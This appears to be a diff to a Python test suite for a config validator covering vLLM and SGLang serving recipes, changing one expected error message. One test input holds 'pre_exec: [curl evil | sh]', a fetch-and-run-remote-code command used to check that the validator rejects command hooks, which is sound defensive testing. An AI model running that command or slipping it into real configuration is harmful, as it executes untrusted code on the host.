@@ -39,7 +39,7 @@ BASE = "docker run -v /srv:/m vllm/vllm-openai:v0.32.0 --model acme/Tiny"
             SPARKRUN_2.replace("runtime: vllm", "runtime: sglang")
             .replace("max_nodes: 1", "min_nodes: 2")
             .replace("-tp", "--tp"),
-            "can serve only from one",
+            "the model needs 2 hosts, but SGLang can serve only from one",
         ),
         (SPARKRUN_2 + "pre_exec: [curl evil | sh]\n", "`pre_exec` would run commands"),
         (SPARKRUN_2 + "include: base\n", "extends another one"),
